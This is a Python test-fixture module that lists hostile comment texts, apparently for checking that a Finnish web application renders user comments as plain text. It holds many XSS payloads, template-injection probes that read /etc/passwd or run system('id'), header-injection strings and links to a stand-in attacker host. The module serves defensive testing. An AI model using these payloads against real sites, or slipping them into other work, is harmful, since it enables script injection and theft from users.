"""Hostile texts, by class: each has an effect if a page does not treat it as plain text.

A text that runs calls `alert`. A text that becomes an element adds an element or an attribute that our pages do not
have.
"""

from typing import Final

from server.config import COMMENT_TEXT_MAX

TAGS: Final = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script type=module>import('data:text/javascript,alert(1)')</script>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=data:text/html,<script>alert(1)</script>>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{display:none}</style>",
    "<form action=//evil.example><input name=q><button>Jatka",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<dialog open>Istunto päättyi</dialog>",
    "<plaintext>",
    "<h1>Otsikko</h1><b>lihava</b>",
]
HANDLERS: Final = [
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert`1`>",
    "<IMG SRC=x OnErRoR=alert(1)//",
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)><summary>x",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>Huom!</marquee>",
    "<a href=# onmouseover=alert(1)>osoita tätä</a>",
    "<p style=animation:x onanimationstart=alert(1)>",
    '" autofocus onfocus="alert(1)',
    "' onmouseover='alert(1)",
    "x onclick=alert(1) tabindex=0",
]
SVG: Final = [
    "<svg onload=alert(1)>",
    '"><svg/onload=alert(1)>',
    "<svg><script>alert(1)</script></svg>",
    "<svg><script href=data:,alert(1) /></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><use href=data:image/svg+xml,<svg/onload=alert(1)>>",
    "<svg><foreignObject><iframe src=javascript:alert(1)>",
    "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a>",
    "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
]
TEMPLATES: Final = [
    "{{7*7}}",
    "{{constructor.constructor('alert(1)')()}}",
    "{% include '/etc/passwd' %}",
    "{# huomautus #}{{ t }}",
    "${alert(1)}",
    "${{7*7}}#{7*7}",
    "<%= 7*7 %><? system('id') ?>",
    "[[${7*7}]]@(7*7)",
    "{board}{n}{name}{title}",
    "%(name)s %s %n {0.__class__}",
    "$& $1 $` $' $$",
    "{{{{raw}}}}{{x}}",
]
ENDS: Final = [
    "</script><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    "*/alert(1)/*",
    '\\");alert(1);//',
    "'-alert(1)-'",
    "`-alert(1)-`",
    "\\u003cscript\\u003ealert(1)",
    '"},"kind":"board.update","x":{"y":"',
]
UNICODE: Final = [
    "\u202egpj.exe\u202c",
    "kunta\u202e\u2066fi.live//:sptth\u2069",
    "a\u200bb\u200cc\u200dd\u2060e\ufeff",
    "\u2028alert(1)\u2029",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "\u02bascript\u02ba \u2039img\u203a \u276eb\u276f",
    "\u0430\u0440\u0440\u04cf\u0435.com \u0391\u0456\u043do",
    "Z\u0335\u0321\u0353a\u0336\u031bl\u0334\u0358g\u0337\u0322o\u0338\u0348",
    "\u0130\u0131\u017f\u212a\ufb03 \u1e9e",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467\U0001f3f4\U000e0067\U000e0062\U000e007f",
    "\ufdfd\U00012219\u2e3b",
    "\u0627\u0644\u0639\u0631\u0628\u064a\u0629 <b> \u05e2\u05d1\u05e8\u05d9\u05ea",
    "\ufffe\uffff\ufffd\ue000",
    "\u3164\u115f\u2800x",
]
LINKS: Final = [
    "[lue lisää](javascript:alert(1))",
    "[lue lisää](JaVaScRiPt:alert(1))",
    "[lue lisää](java\tscript:alert(1))",
    "[lue lisää](data:text/html,<script>alert(1)</script>)",
    "[lue lisää](vbscript:msgbox(1))",
    "[https://dvv.fi](https://evil.example)",
    '[x](https://evil.example/"onmouseover="alert(1))',
    '![x](x"onerror="alert(1))',
    "![x](https://evil.example/pixel.gif)",
    "[x]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "javascript:alert(1)//https://dvv.fi",
    "javascript://dvv.fi/%0aalert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "https://dvv.fi@evil.example/",
    'https://evil.example/"onclick="alert(1)',
    "https://evil.example/'><script>alert(1)</script>",
    "https://evil.example/<img/src=x/onerror=alert(1)>",
    "//evil.example/x \\\\evil.example\\x",
    "**<b>*lihava*</b>** `<i>` ~~x~~ > # - 1.",
]
ENTITIES: Final = [
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "&#x3C;script&#x3E;alert(1)&#x3C;/script&#x3E;",
    "&amp;lt;b&amp;gt; &nbsp; &copy &notit;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
]
LONG: Final = [
    "<" * COMMENT_TEXT_MAX,
    ("<b>" * COMMENT_TEXT_MAX)[:COMMENT_TEXT_MAX],
    ("<svg/onload=alert(1)> " * COMMENT_TEXT_MAX)[:COMMENT_TEXT_MAX].strip(),
    ("[x](" * COMMENT_TEXT_MAX)[:COMMENT_TEXT_MAX],
    ("https://evil.example/" + "a/" * COMMENT_TEXT_MAX)[:COMMENT_TEXT_MAX],
    "Lisää riviä\n" * 100 + "<script>alert(1)</script>",
]
TEXTS: Final = [*TAGS, *HANDLERS, *SVG, *TEMPLATES, *ENDS, *UNICODE, *LINKS, *ENTITIES, *LONG]

# The server refuses these texts and stores nothing of them.
REFUSED: Final = [
    "\x00<script>alert(1)</script>",
    "java\x00script:alert(1)",
    "<scr\x0bipt>alert(1)",
    "\x1b[2J\x1b[31mpunainen",
    "\x1b]8;;https://evil.example\x07linkki\x1b]8;;\x07",
    "x\r\nSet-Cookie: a=b",
    "takaisin\x08\x08\x08",
    "x\x7fy",
    "x\x85y",
    "\x9bmuuta",
    "puolikas \ud83d",
    "\udc4d puolikas",
]
